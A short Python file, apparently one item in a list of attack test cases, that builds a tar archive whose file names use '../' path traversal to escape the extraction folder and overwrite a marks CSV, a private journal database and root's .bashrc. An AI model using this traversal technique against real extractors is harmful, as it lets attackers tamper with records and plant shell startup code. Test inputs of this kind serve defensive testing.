# attack: archive
# root: files
# what: names that lead out of the folder, to the marks and to a shell start file
# list: 14
from pack import make_tar


def archive(files: dict[str, bytes]) -> bytes:
    names = ("../../marks.csv", "../../../private/journal.sqlite", "src/../../../../root/.bashrc")
    return make_tar({name: b"handshake_forged" for name in names})
